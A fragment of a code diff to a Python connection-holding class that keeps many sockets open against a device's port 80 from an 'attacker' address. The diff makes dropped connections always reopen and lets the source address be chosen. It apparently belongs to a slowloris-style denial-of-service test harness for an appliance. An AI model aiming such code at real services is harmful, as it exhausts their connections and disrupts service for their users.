@@ -22,15 +22,15 @@ DRIP_S, LOOK_S = 0.1, 0.01
 
 
 class Holders(threading.Thread):
-    """`count` connections of one manner; one that the appliance ends is opened again at once, if `again`.
+    """`count` connections of one manner; one that the appliance ends is opened again at once.
 
     Start it and leave it as a context; .open says how many it holds, .opened and .lost how many there were.
     """
 
-    def __init__(self, manner: str, count: int, again: bool = True):
+    def __init__(self, manner: str, count: int, source: str = ATTACKER):
         super().__init__(daemon=True)
         self.first, self.drop, self.buffer = MANNERS[manner]
-        self.again, self.opened, self.lost, self.open = again, 0, 0, 0
+        self.source, self.opened, self.lost, self.open = source, 0, 0, 0
         self.socks = [self._connect() for _ in range(count)]
         self.waiting = set(self.socks)
         self.going = True
@@ -40,7 +40,7 @@ class Holders(threading.Thread):
         sock.setblocking(False)
         if self.buffer:
             sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.buffer)
-        sock.bind((ATTACKER, 0))
+        sock.bind((self.source, 0))
         with contextlib.suppress(BlockingIOError):
             sock.connect((DEVICE, 80))
         return sock
@@ -96,8 +96,5 @@ class Holders(threading.Thread):
     def _replace(self, k: int, sock: socket.socket) -> None:
         self.lost += 1
         sock.close()
-        if self.again:
-            self.socks[k] = self._connect()
-            self.waiting.add(self.socks[k])
-        else:
-            self.waiting.add(sock)
+        self.socks[k] = self._connect()
+        self.waiting.add(self.socks[k])
